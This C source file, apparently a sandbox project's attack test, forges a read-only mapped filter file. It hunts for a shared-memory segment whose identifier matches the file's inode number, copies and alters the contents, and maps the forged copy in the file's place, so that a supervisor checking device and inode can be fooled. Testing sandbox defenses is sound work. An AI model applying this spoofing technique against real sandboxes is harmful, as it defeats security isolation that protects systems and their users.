/* A segment of shared memory (shmget) takes the place of each memory file that is mapped read-only, with its device and its inode number,
 * which a program can choose for a segment: a supervisor may know the place of its filters by those.
 */
#include "arming.h"
#include <sys/shm.h>
#include <sys/stat.h>

enum { BLOCK = 32768, MOST = 3500, TRIES = 400000 };

static int kept[MOST], kept_count;

/* The inode number that a memory file gets now on this CPU. */
static unsigned long next_inode(void)
{
    struct stat facts = {0};
    int file = syscall(SYS_memfd_create, "", 0);
    fstat(file, &facts);
    close(file);
    return facts.st_ino;
}

/* Goes on to numbers that the first segments of a block of identifiers can have. */
static void approach(void)
{
    for (int i = 0; i < 2 * BLOCK; i++) {
        unsigned long place = next_inode() % BLOCK;
        if (place > 5 && place < MOST / 2)
            return;
    }
}

/* The memory file that is mapped read-only and shared: its place, or 0. */
static int find_file(unsigned long *from, unsigned long *to, unsigned long *inode)
{
    char line[400], mode[8];
    FILE *maps = fopen("/proc/self/maps", "r");
    int found = 0;
    while (maps && !found && fgets(line, sizeof line, maps))
        found = strstr(line, "/memfd:") && sscanf(line, "%lx-%lx %7s %*s %*s %lu", from, to, mode, inode) == 4 && mode[3] == 's';
    if (maps)
        fclose(maps);
    return found;
}

/* A segment whose identifier is this number; -1 if it cannot be had. */
static int segment(unsigned long inode, size_t size)
{
    for (int i = 0; i < TRIES && kept_count < MOST; i++) {
        int id = shmget(IPC_PRIVATE, size, IPC_CREAT | 0600);
        if (id < 0 || (unsigned long)id == inode)
            return id;
        if ((unsigned long)id / BLOCK == inode / BLOCK && (unsigned long)id < inode)
            kept[kept_count++] = id;
        else
            shmctl(id, IPC_RMID, NULL);
        if ((unsigned long)id / BLOCK > inode / BLOCK)
            return -1;
    }
    return -1;
}

static void forge_file(void)
{
    unsigned long from, to, inode;
    if (!find_file(&from, &to, &inode))
        return;
    int id = segment(inode, to - from);
    char *room = id < 0 ? MAP_FAILED : shmat(id, NULL, 0);
    if (room != MAP_FAILED) {
        memcpy(room, (void *)from, to - from);
        forge(room, to - from);
        munmap((void *)from, to - from);
        shmat(id, (void *)from, SHM_RDONLY);
    }
    if (id >= 0)
        shmctl(id, IPC_RMID, NULL);
    while (kept_count)
        shmctl(kept[--kept_count], IPC_RMID, NULL);
}

static int attempt(void)
{
    int p[2];
    end_with_maker();
    unshare(CLONE_NEWUSER | CLONE_NEWIPC); /* where identifiers begin with 0 again */
    run_on(sched_getcpu(), SCHED_OTHER);
    approach();
    if (make(PIPE, p) || write(p[1], "A", 1) != 1)
        return 0;
    forge_file();
    for (int to = 7; to < 12; to++) {
        struct call call = {SYS_dup2, {p[1], to, 0, 0}, to};
        then_write(&call);
    }
    return other(p[0], 'A');
}

int main(void)
{
    try_again_for(8, attempt, "no segment was taken for a file of filters");
}
